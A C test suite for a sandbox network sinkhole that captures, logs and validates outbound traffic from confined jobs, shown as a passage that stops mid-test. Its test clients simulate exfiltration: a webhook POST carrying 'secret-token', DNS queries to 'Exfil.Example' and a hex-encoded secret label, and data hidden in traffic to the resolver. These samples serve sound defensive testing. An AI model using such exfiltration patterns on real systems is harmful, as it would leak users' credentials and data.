/* SPDX-License-Identifier: MIT */
/*
 * The sinkhole in a network namespace of its own: K as jobs have it, S played by
 * the test, and clients that try every way out. Needs root.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netdb.h>
#include <netinet/in.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include "base/clock.h"
#include "base/fdio.h"
#include "base/text.h"
#include "network_bytes.h"
#include "runner/sandbox/calls.h"
#include "runner/sandbox/sinkhole_steps.h"
#include "runner/sandbox/sinkhole_wire.h"
#include "test.h"

/* ---- a network with a sinkhole ------------------------------------------------------ */

struct network {
	struct sinkhole s;
	struct observer *o;
	struct observation seen;
	uint8_t said[8192]; /* by the client */
	size_t n_said;
	pid_t init;
};

/* The client's side: questions to S, and what it has to say. */
static int to_s, said;

typedef void client_fn(void);
/* What S does when K is ready and before the client starts. */
typedef void before_fn(struct network *n);

static void log_line(const char *what, long result, struct slice detail)
{
	char mem[256];
	struct buf b = buf_on(mem, sizeof mem);

	buf_fmt(&b, "%s %ld ", what, result);
	buf_ascii(&b, detail, 100);
	buf_u8(&b, '\n');
	if (write(said, b.p, b.n) < 0) _exit(1);
}

static pid_t keeper_of(const struct network *n)
{
	char path[64], text[64];
	int fd;
	ssize_t got;

	snprintf(path, sizeof path, "/proc/%d/task/%d/children", n->init, n->init);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	got = fd < 0 ? -1 : read(fd, text, sizeof text - 1);
	fd_close(&fd);
	text[got > 0 ? got : 0] = '\0';
	return (pid_t)strtol(text, NULL, 10);
}

static _Noreturn void init_main(struct network *n, client_fn *client, int ask, int log, int go)
{
	static const struct limit_facts limits = {.files = 1024};
	static const char file[] = "nameserver 127.0.0.53\n";
	struct sandbox_env env = SANDBOX_ENV_INIT;
	struct workspace ws = WORKSPACE_INIT;
	struct sandbox_phase phase = {.limits_of_job = &limits};
	struct inner in = {
		.env = &env, .ws = &ws, .phase = &phase, .status = log, .sinkhole = &n->s};
	char name[] = "/tmp/sv-resolv-XXXXXX", byte;
	int fd, status;
	pid_t pid;

	env.uid_base = 70000;
	sinkhole_keep_inner(&n->s);
	if (filter_compile(&calls_sinkhole, &env.sinkhole, NULL)) _exit(10);
	if (unshare(CLONE_NEWNET | CLONE_NEWNS) < 0) _exit(11);
	fd = mkstemp(name);
	if (fd < 0 || write(fd, file, sizeof file - 1) < 0 || fchmod(fd, 0644) < 0) _exit(12);
	if (mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) < 0) _exit(12);
	/* Where there is none, libcs ask at 127.0.0.1. */
	if (access("/etc/resolv.conf", F_OK) == 0 &&
		mount(name, "/etc/resolv.conf", NULL, MS_BIND, NULL) < 0)
		_exit(12);
	unlink(name);
	if (sinkhole_network(&in) < 0) _exit(13);
	if (sinkhole_start(&in) < 0) _exit(14);
	if (sinkhole_ready(&in) < 0) _exit(15);
	if (read(go, &byte, 1) != 1) _exit(16);
	pid = fork();
	if (pid == 0) {
		to_s = ask;
		said = log;
		client();
		_exit(0);
	}
	close(ask);
	close(log);
	while (waitpid(pid, &status, 0) < 0 && errno == EINTR)
		;
	sinkhole_stop(&in);
	_exit(status ? 17 : 0);
}

static void serve(struct network *n, int ask, int log)
{
	int64_t end = clock_mono_us() + 20000000;

	while (clock_mono_us() < end) {
		struct pollfd p[] = {{ask, POLLIN, 0}, {log, POLLIN, 0}, {n->s.channel, POLLIN, 0}};
		struct endpoint at;
		bool there;

		poll(p, 3, 1000);
		if (p[2].revents) sinkhole_read(&n->s, n->o);
		if (p[0].revents & POLLIN && read(ask, &at, sizeof at) == (ssize_t)sizeof at) {
			sinkhole_read(&n->s, n->o);
			there = sinkhole_expect(&n->s, &at);
			if (write(ask, &there, 1) != 1) return;
		}
		if (p[1].revents) {
			ssize_t got = read(log, n->said + n->n_said, sizeof n->said - n->n_said);

			if (got <= 0) return;
			n->n_said += (size_t)got;
		}
	}
	CHECK(!"the client has ended in time");
}

/* Runs a client and tells what was seen; 0 or init's exit status. */
static int network_run(struct network *n, client_fn *client, before_fn *before)
{
	int ask[2], log[2], go[2], status = -1;

	*n = (struct network){.s = SINKHOLE_INIT};
	CHECK_ERR(observer_new(&n->o, MONITOR_CALLS), E_OK);
	observer_phase(n->o, OBSERVED_TEST);
	CHECK_ERR(sinkhole_open(&n->s), E_OK);
	CHECK(socketpair(AF_UNIX, SOCK_SEQPACKET | SOCK_CLOEXEC, 0, ask) == 0);
	CHECK(pipe2(log, O_CLOEXEC) == 0 && pipe2(go, O_CLOEXEC) == 0);
	fflush(stdout);
	n->init = fork();
	if (n->init == 0) {
		close(ask[0]);
		close(log[0]);
		close(go[1]);
		init_main(n, client, ask[1], log[1], go[0]);
	}
	sinkhole_keep_outer(&n->s);
	close(ask[1]);
	close(log[1]);
	if (before) before(n);
	CHECK(write(go[1], "", 1) == 1);
	close(go[0]);
	close(go[1]);
	serve(n, ask[0], log[0]);
	CHECK(waitpid(n->init, &status, 0) == n->init);
	sinkhole_end(&n->s, n->o);
	observer_finish(n->o, &n->seen);
	close(ask[0]);
	close(log[0]);
	return WIFEXITED(status) ? WEXITSTATUS(status) : -1;
}

static void network_drop(struct network *n)
{
	sinkhole_drop(&n->s);
	observer_drop(n->o);
}

static const struct observed *row(
	const struct network *n, enum observed_kind kind, const char *value, const char *detail)
{
	unsigned i;

	for (i = 0; i < n->seen.n; i++)
		if (n->seen.rows[i].kind == kind && slice_is(n->seen.rows[i].value, value) &&
			slice_is(n->seen.rows[i].detail, detail))
			return &n->seen.rows[i];
	return NULL;
}

/* Whole streams: a head, its place, its bytes. True when one is exactly that. */
static bool traffic_has(const struct network *n, enum traffic_channel channel, const char *place,
	struct slice bytes)
{
	struct buf b = buf_heap(8 * MIB);
	struct slice rest;
	bool found = false;

	CHECK(lseek(n->s.traffic, 0, SEEK_SET) == 0);
	CHECK_ERR(fd_read_all(n->s.traffic, &b), E_OK);
	rest = buf_slice(&b);
	while (rest.n >= sizeof(struct traffic_head)) {
		struct traffic_head h;

		memcpy(&h, rest.p, sizeof h);
		rest = slice_from(rest, sizeof h);
		CHECK(h.channel < TRAFFIC_CHANNELS && h.place_bytes + h.bytes <= rest.n);
		if (h.channel == channel && slice_is(slice_sub(rest, 0, h.place_bytes), place) &&
			slice_eq(slice_sub(rest, h.place_bytes, h.bytes), bytes))
			found = true;
		rest = slice_from(rest, h.place_bytes + h.bytes);
	}
	CHECK(rest.n == 0);
	buf_drop(&b);
	return found;
}

#define NEEDS_ROOT                                                                                 \
	if (getuid() != 0) SKIP("needs root")

/* ---- what clients do --------------------------------------------------------------- */

static socklen_t address(struct sockaddr_storage *a, const char *ip, uint16_t port)
{
	struct sockaddr_in v4 = {.sin_family = AF_INET, .sin_port = htons(port)};
	struct sockaddr_in6 v6 = {.sin6_family = AF_INET6, .sin6_port = htons(port)};

	memset(a, 0, sizeof *a);
	if (inet_pton(AF_INET, ip, &v4.sin_addr) == 1) {
		memcpy(a, &v4, sizeof v4);
		return sizeof v4;
	}
	if (inet_pton(AF_INET6, ip, &v6.sin6_addr) != 1) _exit(20);
	memcpy(a, &v6, sizeof v6);
	return sizeof v6;
}

/* As the listener of system calls does before a call goes on. */
static bool expect(uint8_t proto, const struct sockaddr_storage *a, socklen_t n)
{
	struct endpoint at;
	bool there = false;

	if (!endpoint_of(&at, proto, a, n)) _exit(21);
	if (write(to_s, &at, sizeof at) != (ssize_t)sizeof at || read(to_s, &there, 1) != 1)
		_exit(22);
	return there;
}

static int dial(int type, const char *ip, uint16_t port)
{
	struct timeval patience = {5, 0};
	struct sockaddr_storage a;
	socklen_t n = address(&a, ip, port);
	int fd = socket(a.ss_family, type | SOCK_CLOEXEC, 0);

	if (fd < 0) _exit(23);
	setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof patience);
	expect(type == SOCK_STREAM ? IPPROTO_TCP : IPPROTO_UDP, &a, n);
	if (connect(fd, (struct sockaddr *)&a, n) == 0) return fd;
	close(fd);
	return -errno;
}

/* Sends, reads to the end, logs what came. */
static void talk(const char *what, const char *ip, uint16_t port, struct slice bytes, bool half)
{
	char mem[512];
	size_t n = 0;
	ssize_t got;
	int fd = dial(SOCK_STREAM, ip, port);

	if (fd < 0) {
		log_line(what, fd, SLICE(""));
		return;
	}
	if (send(fd, bytes.p, bytes.n, MSG_NOSIGNAL) < 0) _exit(24);
	if (half) shutdown(fd, SHUT_WR);
	while ((got = read(fd, mem + n, sizeof mem - n)) > 0)
		n += (size_t)got;
	log_line(what, got, slice_sub(slice_of(mem, n), 0, 12));
	close(fd);
}

static void query(const char *what, int type, const char *ip, const char *name, uint16_t qtype)
{
	uint8_t mem[600], answer[600];
	struct buf b = buf_on(mem, sizeof mem);
	int fd = dial(type, ip, 53);
	size_t head = type == SOCK_STREAM ? 2 : 0;
	ssize_t n;

	if (fd < 0) _exit(25);
	buf_zeros(&b, head);
	made_query(&b, 7, name, qtype);
	if (head) mem[1] = (uint8_t)(b.n - 2);
	if (send(fd, b.p, b.n, 0) < 0) _exit(26);
	n = recv(fd, answer, sizeof answer, 0);
	log_line(what, n > 12 ? answer[head + 7] : -errno,
		n > 4 ? slice_of(answer + n - 4, 4) : SLICE(""));
	close(fd);
}

/* A server of the test's own: it listens, is spoken to and speaks. */
static void serve_self(const char *what, const char *bind_to, const char *ip, uint16_t port)
{
	struct sockaddr_storage a;
	socklen_t n = address(&a, bind_to, port);
	int server = socket(a.ss_family, SOCK_STREAM | SOCK_CLOEXEC, 0), on = 1, client, there;
	char text[8] = "";

	setsockopt(server, SOL_SOCKET, SO_REUSEADDR, &on, sizeof on);
	if (bind(server, (struct sockaddr *)&a, n) < 0 || listen(server, 4) < 0) {
		log_line(what, -errno, SLICE("bind"));
		close(server);
		return;
	}
	client = dial(SOCK_STREAM, ip, port);
	there = client < 0 ? -1 : accept(server, NULL, NULL);
	if (there < 0 || write(there, "own", 3) != 3 || read(client, text, sizeof text) != 3)
		log_line(what, client, SLICE("no own server"));
	else
		log_line(what, 0, slice_of(text, 3));
	close(there);
	close(client);
	close(server);
}

#define HOOK                                                                                       \
	"POST /hook?id=7 HTTP/1.1\r\nHost: webhook.example\r\nContent-Length: 12\r\n\r\nsecret-token"

static struct slice hello_bytes(void)
{
	static uint8_t mem[1024];
	struct buf b = buf_on(mem, sizeof mem);

	made_hello(&b, "api.example.org", 16);
	return buf_slice(&b);
}

static void ways_out(void)
{
	struct sockaddr_storage a;
	socklen_t n;
	int fd;

	talk("http", "93.184.216.34", 80, slice_str(HOOK), false);
	talk("tls", "93.184.216.34", 443, hello_bytes(), false);
	talk("raw6", "2001:db8::1", 8080, SLICE("hello raw"), true);
	talk("mapped", "::ffff:198.51.100.7", 25, SLICE("EHLO x"), true);
	query("dns", SOCK_DGRAM, "8.8.8.8", "Exfil.Example", 16);
	query("dns-tcp", SOCK_STREAM, "9.9.9.9", "tcp.example", 1);
	fd = dial(SOCK_DGRAM, "203.0.113.9", 9999);
	log_line("udp", send(fd, "one", 3, 0) + send(fd, "two", 3, 0), SLICE(""));
	close(fd);
	/* sendto without connect, as notified each time. */
	n = address(&a, "2001:db8::2", 4000);
	fd = socket(AF_INET6, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	expect(IPPROTO_UDP, &a, n);
	log_line("udp6", sendto(fd, "six", 3, 0, (struct sockaddr *)&a, n), SLICE(""));
	close(fd);
	/* Nobody was asked to listen. */
	n = address(&a, "93.184.216.34", 81);
	fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	log_line("unasked", connect(fd, (struct sockaddr *)&a, n) < 0 ? -errno : 0, SLICE(""));
	close(fd);
}

TEST(sinkhole_takes_every_way_out)
{
	static struct network n;
	const struct observed *r;
	uint8_t digest[SHA256_LEN];

	NEEDS_ROOT;
	CHECK(network_run(&n, ways_out, NULL) == 0);
	CHECK_SLICE(slice_of(n.said, n.n_said),
		SLICE("http 0 HTTP/1.1 503\ntls 0 \\x15\\x03\\x03\\x00\\x02\\x02(\nraw6 0 \n"
		      "mapped 0 \ndns 0 \\x00\\x10\\x00\\x01\ndns-tcp 1 \\xc6\\x12\\x00\\x01\n"
		      "udp 6 \nudp6 3 \nunasked -111 \n"));
	CHECK(n.seen.complete && n.seen.dropped == 0);
	r = row(&n, OBSERVED_CONNECT, "tcp 93.184.216.34:80", "");
	CHECK(r && r->confirmed == 1 && r->bytes == sizeof HOOK - 1 && !r->advisory);
	r = row(&n, OBSERVED_REQUEST, "http POST webhook.example/hook?id=7", "");
	sha256(slice_str(HOOK), digest);
	CHECK(r && r->bytes == sizeof HOOK - 1 && r->has_sha256 &&
		memcmp(r->sha256, digest, sizeof digest) == 0);
	CHECK(row(&n, OBSERVED_REQUEST, "tls api.example.org", ""));
	r = row(&n, OBSERVED_CONNECT, "tcp [2001:db8::1]:8080", "");
	CHECK(r && r->confirmed == 1 && r->bytes == 9);
	CHECK(row(&n, OBSERVED_CONNECT, "tcp 198.51.100.7:25", ""));
	r = row(&n, OBSERVED_CONNECT, "udp 203.0.113.9:9999", "");
	CHECK(r && r->confirmed == 2 && r->bytes == 6);
	CHECK(row(&n, OBSERVED_CONNECT, "udp [2001:db8::2]:4000", ""));
	CHECK(row(&n, OBSERVED_NAME, "exfil.example", "TXT") &&
		row(&n, OBSERVED_NAME, "tcp.example", "A"));
	CHECK(row(&n, OBSERVED_CONNECT, "udp 8.8.8.8:53", ""));
	CHECK(!row(&n, OBSERVED_CONNECT, "tcp 93.184.216.34:81", ""));
	CHECK(traffic_has(
		&n, TRAFFIC_HTTP, "http POST webhook.example/hook?id=7", slice_str(HOOK)));
	CHECK(traffic_has(&n, TRAFFIC_TLS, "tls api.example.org", hello_bytes()));
	CHECK(traffic_has(&n, TRAFFIC_TCP, "tcp [2001:db8::1]:8080", SLICE("hello raw")));
	CHECK(traffic_has(&n, TRAFFIC_UDP, "udp 203.0.113.9:9999", SLICE("onetwo")));
	CHECK(traffic_has(&n, TRAFFIC_DNS, "exfil.example", SLICE("Exfil.Example\nExfilExample")));
	network_drop(&n);
}

/* ---- names -------------------------------------------------------------------------- */

static void look_up(const char *name)
{
	struct addrinfo *list = NULL, hints = {.ai_socktype = SOCK_STREAM};
	int r = getaddrinfo(name, NULL, &hints, &list);
	char text[64] = "";

	if (r == 0 && list->ai_family == AF_INET)
		inet_ntop(AF_INET, &((struct sockaddr_in *)(void *)list->ai_addr)->sin_addr, text,
			sizeof text);
	log_line(name, r, slice_str(text));
	if (list) freeaddrinfo(list);
}

static void names(void)
{
	look_up("registry.example");
	look_up("Other.example");
	look_up("registry.example");
	talk("by-name", "198.18.0.1", 443, hello_bytes(), false);
	query("udp", SOCK_DGRAM, "127.0.0.53", "u.example", 1);
	query("tcp", SOCK_STREAM, "127.0.0.1", "t.example", 1);
	query("aaaa", SOCK_DGRAM, "127.0.0.1", "t.example", 28);
	query("local", SOCK_DGRAM, "127.0.0.1", "localhost", 1);
	query("odd", SOCK_DGRAM, "127.0.0.53", "6b2d6c697665746573742d303132333435.example", 16);
}

TEST(sinkhole_knows_every_name)
{
	static struct network n;

	NEEDS_ROOT;
	CHECK(network_run(&n, names, NULL) == 0);
	CHECK_SLICE(slice_of(n.said, n.n_said),
		SLICE("registry.example 0 198.18.0.1\nOther.example 0 198.18.0.2\n"
		      "registry.example 0 198.18.0.1\nby-name 0 \\x15\\x03\\x03\\x00\\x02\\x02(\n"
		      "udp 1 \\xc6\\x12\\x00\\x03\ntcp 1 \\xc6\\x12\\x00\\x04\n"
		      "aaaa 0 \\x00\\x1c\\x00\\x01\nlocal 1 \\x7f\\x00\\x00\\x01\n"
		      "odd 0 \\x00\\x10\\x00\\x01\n"));
	CHECK(n.seen.complete);
	CHECK(row(&n, OBSERVED_NAME, "registry.example", "A") &&
		row(&n, OBSERVED_NAME, "registry.example", "A")->count == 2);
	CHECK(row(&n, OBSERVED_CONNECT, "tcp 198.18.0.1:443", "registry.example"));
	CHECK(row(&n, OBSERVED_REQUEST, "tls api.example.org", "registry.example"));
	CHECK(row(
		&n, OBSERVED_NAME, "6b2d6c697665746573742d303132333435.example", "TXT odd label"));
	/* Asking our own resolver is no connection to anybody. */
	CHECK(!row(&n, OBSERVED_CONNECT, "udp 127.0.0.53:53", ""));
	CHECK(!row(&n, OBSERVED_CONNECT, "tcp 127.0.0.1:53", ""));
	network_drop(&n);
}

/* What is no query does not hide behind our resolver's address. */
static void not_names(void)
{
	int fd = dial(SOCK_DGRAM, "127.0.0.53", 53);

	log_line("send", send(fd, "secret", 6, 0), SLICE(""));
	talk("tcp", "127.0.0.53", 53, SLICE("\0\6secret"), false);
}

TEST(sinkhole_resolver_is_no_hiding_place)
{
	static struct network n;

	NEEDS_ROOT;
	CHECK(network_run(&n, not_names, NULL) == 0);
	CHECK_SLICE(slice_of(n.said, n.n_said), SLICE("send 6 \ntcp 0 \n"));
	CHECK(traffic_has(&n, TRAFFIC_UDP, "udp 127.0.0.53:53", SLICE("secret")));
	CHECK(traffic_has(&n, TRAFFIC_TCP, "tcp 127.0.0.53:53", SLICE("\0\6secret")));
	network_drop(&n);
}

/* ---- servers of the test's own ----------------------------------------------------------- */

/* Where packets come from: an address as machines have one. */
static void source(void)
{
	struct sockaddr_in a = {0};
	socklen_t n = sizeof a;
	int fd = dial(SOCK_STREAM, "93.184.216.34", 8080);

	if (fd < 0 || getsockname(fd, (struct sockaddr *)&a, &n) < 0) _exit(27);
	log_line("from", a.sin_family, slice_of(&a.sin_addr, 4));
	close(fd);
}

static void servers(void)
{
	source();
	talk("out", "93.184.216.34", 8080, SLICE("x"), true);
	talk("out6", "2001:db8::1", 8080, SLICE("x"), true);
	serve_self("v4", "127.0.0.1", "127.0.0.1", 8080);
	serve_self("v6", "::1", "::1", 8080);
	serve_self("any4", "0.0.0.0", "127.0.0.1", 8080);
	serve_self("any6", "::", "::1", 8080);
	/* Its own server has the port: that is where it ends. */
	serve_self("own", "0.0.0.0", "192.0.2.1", 8081);
	serve_self("itself", "198.19.255.254", "198.19.255.254", 8082);
	talk("again", "93.184.216.34", 8080, SLICE("x"), true);
}

TEST(sinkhole_leaves_servers_of_the_test_alone)
{
	static struct network n;

	NEEDS_ROOT;
	CHECK(network_run(&n, servers, NULL) == 0);
	CHECK_SLICE(slice_of(n.said, n.n_said),
		SLICE("from 2 \\xc6\\x13\\xff\\xfe\nout 0 \nout6 0 \nv4 0 own\nv6 0 own\nany4 0 own\nany6 0 own\nown 0 own\nitself 0 own\n"
		      "again 0 \n"));
	CHECK(n.seen.complete);
	CHECK(row(&n, OBSERVED_CONNECT, "tcp 93.184.216.34:8080", "")->confirmed == 3);
	network_drop(&n);
}

/* ---- much ---------------------------------------------------------------------------------- */

#define MANY 100

static void much(void)
{
	static uint8_t block[LIMIT_SINK_STREAM + 1];
	int fd[MANY], i, failed = 0;

	for (i = 0; i < MANY; i++) {
		fd[i] = dial(SOCK_STREAM, "192.0.2.9", 1000);
		failed += fd[i] < 0 || send(fd[i], "held", 4, MSG_NOSIGNAL) != 4;
	}
	log_line("held", failed, SLICE(""));
	fd[0] = dial(SOCK_STREAM, "192.0.2.10", 1000);
	log_line("block", send(fd[0], block, sizeof block, MSG_NOSIGNAL), SLICE(""));
}

TEST(sinkhole_counts_what_it_cannot_keep)
{
	static struct network n;
	const struct observed *r;

	NEEDS_ROOT;
	CHECK(network_run(&n, much, NULL) == 0);
	CHECK_SLICE(slice_of(n.said, n.n_said), SLICE("held 0 \nblock 65537 \n"));
	r = row(&n, OBSERVED_CONNECT, "tcp 192.0.2.9:1000", "");
	CHECK(r && r->confirmed == MANY && r->bytes == 4 * MANY);
	r = row(&n, OBSERVED_CONNECT, "tcp 192.0.2.10:1000", "");
	CHECK(r && r->bytes == LIMIT_SINK_STREAM + 1);
	/* One byte more than is kept: what it carried is not all that is searched. */
	CHECK(!n.seen.complete && n.seen.dropped == 1);
	network_drop(&n);
}

/* ---- K: confined, gone, hanging --------------------------------------------------------------- */

static void confined(struct network *n)
{
	static const char *const want[] = {"\nUid:\t70002\t70002\t70002\t70002\n",
		"\nGid:\t70002\t70002\t70002\t70002\n", "\nCapInh:\t0000000000000000\n",
		"\nCapPrm:\t0000000000000000\n", "\nCapEff:\t0000000000000000\n",
		"\nCapBnd:\t0000000000000000\n", "\nNoNewPrivs:\t1\n", "\nSeccomp:\t2\n"};
	struct buf b = buf_heap(16 * KIB);
	char path[64], target[64];
	ssize_t got;
	size_t i;
	int fd;

	/* It is ready when I is: wait for the answer to a question. */
	struct endpoint at = {
		.proto = IPPROTO_TCP, .family = AF_INET, .addr = {1, 1, 1, 1}, .port = 1};

	for (i = 0; i < 100 && !sinkhole_expect(&n->s, &at); i++)
		;
	n->s.lost = 0;
	snprintf(path, sizeof path, "/proc/%d/status", keeper_of(n));
	CHECK_ERR(file_read(path, 16 * KIB, &b), E_OK);
	for (i = 0; i < sizeof want / sizeof *want; i++) {
		bool found = slice_search(buf_slice(&b), 0, slice_str(want[i])) < b.n;

		if (!found) printf("# not in its status:%s", want[i]);
		CHECK(found);
	}
	for (fd = 0; fd < 256; fd++) {
		snprintf(path, sizeof path, "/proc/%d/fd/%d", keeper_of(n), fd);
		got = readlink(path, target, sizeof target);
		CHECK(got < 0 || slice_starts(slice_of(target, (size_t)got), "socket:["));
	}
	buf_drop(&b);
}

static void nothing(void)
{
}

TEST(sinkhole_process_has_no_rights)
{
	static struct network n;

	NEEDS_ROOT;
	CHECK(network_run(&n, nothing, confined) == 0);
	CHECK(n.seen.complete && n.seen.n == 0);
	network_drop(&n);
}

static void kill_it(struct network *n)
{
	while (!keeper_of(n))
		usleep(1000);
	CHECK(kill(keeper_of(n), SIGKILL) == 0);
}

static void stop_it(struct network *n)
{
	confined(n);
	CHECK(kill(keeper_of(n), SIGSTOP) == 0);
}

/* Its end would be waited for: here S goes on without it. */
static void hanging(void)
{
	int64_t begin = clock_mono_us();

	log_line("refused", dial(SOCK_STREAM, "192.0.2.1", 80), SLICE(""));
	log_line("waited", clock_mono_us() - begin < 2000000, SLICE(""));
	kill(getppid(), SIGKILL);
}

TEST(sinkhole_that_ends_early_is_said)
{
	static struct network n;

	NEEDS_ROOT;
	network_run(&n, nothing, kill_it);
	CHECK(!n.seen.complete);
	network_drop(&n);
}

TEST(sinkhole_that_hangs_is_said)
{
	static struct network n;

	NEEDS_ROOT;
	CHECK(network_run(&n, hanging, stop_it) == -1);
	CHECK_SLICE(slice_of(n.said, n.n_said), SLICE("refused -111 \nwaited 1 \n"));
	CHECK(!n.seen.complete && n.seen.dropped >= 1);
	network_drop(&n);
}

/* ---- a K that was taken over --------------------------------------------------------------- */

static void lie(const char *what, struct sinkhole_report r, bool believed)
{
	uint8_t mem[SINK_REPORT_BYTES];
	struct buf b = buf_on(mem, sizeof mem);
	struct codec c = codec_writer(&b);
	struct sinkhole s = SINKHOLE_INIT;
	struct observer *o;
	static struct observation seen;

	CHECK_ERR(observer_new(&o, MONITOR_CALLS), E_OK);
	CHECK_ERR(sinkhole_open(&s), E_OK);
	codec_report(&c, &r);
	CHECK(send(s.reports, b.p, b.n, 0) == (ssize_t)b.n);
	sinkhole_read(&s, o);
	observer_finish(o, &seen);
	if (seen.complete != believed) printf("# %s\n", what);
	CHECK(seen.complete == believed && (s.channel >= 0) == believed);
	CHECK(believed || seen.n == 0);
	sinkhole_drop(&s);
	observer_drop(o);
}

TEST(sinkhole_reports_are_checked_again)
{
	struct sinkhole_report good = {.kind = SAID_STREAM,
		.at = {.proto = IPPROTO_TCP, .family = AF_INET, .addr = {1, 2, 3, 4}, .port = 80},
		.taken = 1,
		.bytes = 3,
		.kept = SLICE("abc")};
	struct sinkhole_report name = {.kind = SAID_NAME, .name = SLICE("a.example"), .type = 1};
	static const uint8_t long_text[SINK_NAME_BYTES + 1];

#define LIE(of, what)                                                                              \
	do {                                                                                       \
		struct sinkhole_report r = of;                                                     \
		r.what;                                                                            \
		lie(#what, r, false);                                                              \
	} while (0)
	lie("good", good, true);
	lie("name", name, true);
	LIE(good, kind = SAID_KINDS);
	LIE(good, taken = 0);
	LIE(good, taken = UINT32_MAX);
	LIE(good, bytes = 2);
	LIE(good, bytes = UINT64_MAX);
	LIE(good, form = STREAM_FORMS);
	LIE(good, at.family = AF_UNIX);
	LIE(good, at.proto = IPPROTO_ICMP);
	LIE(good, at.addr[4] = 1);
	LIE(good, host = SLICE_OF(long_text));
	LIE(name, name = SLICE_OF(long_text));
	LIE(name, type = 65536);
	LIE(name, kind = SAID_LOST);
}

TEST(sinkhole_junk_is_no_report)
{
	static uint8_t junk[SINK_REPORT_BYTES + 1];
	static struct observation seen;
	size_t sizes[] = {1, 8, 100, sizeof junk}, i;

	for (i = 0; i < sizeof sizes / sizeof *sizes; i++) {
		struct sinkhole s = SINKHOLE_INIT;
		struct observer *o;

		CHECK_ERR(observer_new(&o, MONITOR_CALLS), E_OK);
		CHECK_ERR(sinkhole_open(&s), E_OK);
		memset(junk, 0xa5, sizeof junk);
		CHECK(send(s.reports, junk, sizes[i], 0) == (ssize_t)sizes[i]);
		sinkhole_read(&s, o);
		observer_finish(o, &seen);
		CHECK(!seen.complete && s.channel < 0);
		sinkhole_drop(&s);
		observer_drop(o);
	}
}

/* A socket that is not what was asked for is not bound, nor kept. */
TEST(sinkhole_takes_no_other_socket)
{
	struct endpoint at = {
		.proto = IPPROTO_TCP, .family = AF_INET, .addr = {127, 0, 0, 9}, .port = 1};
	struct sinkhole s = SINKHOLE_INIT;
	int fds, i;
	pid_t pid;

	at.addr[0] = 9;
	CHECK_ERR(sinkhole_open(&s), E_OK);
	fds = dup(0);
	close(fds);
	pid = fork();
	if (pid == 0) {
		/* K answers each question with two descriptors: a datagram socket, and one more. */
		for (;;) {
			uint8_t mem[SINK_ASK_BYTES];
			ssize_t n = recv(s.asked, mem, sizeof mem, 0);
			int give[2] = {socket(AF_INET, SOCK_DGRAM, 0), dup(0)};
			union {
				struct cmsghdr head;
				char space[CMSG_SPACE(sizeof give)];
			} control;
			struct iovec part = {mem, n > 0 ? (size_t)n : 0};
			struct msghdr m = {.msg_iov = &part,
				.msg_iovlen = 1,
				.msg_control = &control,
				.msg_controllen = sizeof control};

			if (n <= 0) _exit(0);
			memset(&control, 0, sizeof control);
			control.head.cmsg_level = SOL_SOCKET;
			control.head.cmsg_type = SCM_RIGHTS;
			control.head.cmsg_len = CMSG_LEN(sizeof give);
			memcpy(CMSG_DATA(&control.head), give, sizeof give);
			mem[0] = ASK_SOCKET;
			if (sendmsg(s.asked, &m, 0) < 0) _exit(0);
			close(give[0]);
			close(give[1]);
		}
	}
	sinkhole_keep_outer(&s);
	for (i = 0; i < 5; i++)
		CHECK(!sinkhole_expect(&s, &at));
	CHECK(s.lost == 5);
	i = dup(0);
	CHECK(i <= fds);
	close(i);
	kill(pid, SIGKILL);
	waitpid(pid, NULL, 0);
	sinkhole_drop(&s);
}

/* ---- its filter ------------------------------------------------------------------------------- */

static int dies(void (*what)(void))
{
	struct filter f = FILTER_INIT;
	int status = -1;
	pid_t pid;

	CHECK_ERR(filter_compile(&calls_sinkhole, &f, NULL), E_OK);
	fflush(stdout);
	pid = fork();
	if (pid == 0) {
		if (filter_load(buf_slice(&f.program)) < 0) _exit(2);
		what();
		_exit(0);
	}
	CHECK(waitpid(pid, &status, 0) == pid);
	filter_drop(&f);
	return WIFSIGNALED(status) ? WTERMSIG(status) : -WEXITSTATUS(status);
}

static void opens(void)
{
	open("/etc/passwd", O_RDONLY);
}
static void forks(void)
{
	fork();
}
static void makes_local(void)
{
	socket(AF_UNIX, SOCK_STREAM, 0);
}
static void makes_raw(void)
{
	socket(AF_INET, SOCK_RAW, 0);
}
static void marks(void)
{
	int on = 1;

	setsockopt(1, SOL_SOCKET, SO_MARK, &on, sizeof on);
}
static void connects(void)
{
	connect(1, NULL, 0);
}
static void makes_tcp(void)
{
	close(socket(AF_INET6, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, IPPROTO_TCP));
}

TEST(sinkhole_filter)
{
	CHECK(dies(opens) == SIGSYS);
	CHECK(dies(forks) == SIGSYS);
	CHECK(dies(makes_local) == SIGSYS);
	CHECK(dies(makes_raw) == SIGSYS);
	CHECK(dies(marks) == SIGSYS);
	CHECK(dies(connects) == SIGSYS);
	CHECK(dies(makes_tcp) == 0);
	CHECK(dies(nothing) == 0);
}

TEST(sinkhole_endpoints)
{
	struct sockaddr_in v4 = {.sin_family = AF_INET, .sin_port = htons(80)};
	struct endpoint at;
	char mem[80];
	struct buf b = buf_on(mem, sizeof mem);

	CHECK(endpoint_of(&at, IPPROTO_TCP, &v4, sizeof v4) && endpoint_is_local(&at));
	CHECK(!endpoint_of(&at, IPPROTO_TCP, &v4, sizeof v4 - 1));
	CHECK(!endpoint_of(&at, IPPROTO_TCP, "\0", 1));
	v4.sin_family = AF_UNIX;
	CHECK(!endpoint_of(&at, IPPROTO_TCP, &v4, sizeof v4));
	v4 = (struct sockaddr_in){.sin_family = AF_INET, .sin_port = htons(443)};
	v4.sin_addr.s_addr = htonl(0x7f123456);
	CHECK(endpoint_of(&at, IPPROTO_UDP, &v4, sizeof v4) && endpoint_is_local(&at));
	v4.sin_addr.s_addr = htonl(0xa9fea9fe);
	CHECK(endpoint_of(&at, IPPROTO_UDP, &v4, sizeof v4) && !endpoint_is_local(&at));
	endpoint_text(&b, &at);
	CHECK_SLICE(buf_slice(&b), SLICE("udp 169.254.169.254:443"));
	at = (struct endpoint){.proto = IPPROTO_TCP, .family = AF_INET6, .port = 1};
	CHECK(endpoint_is_local(&at));
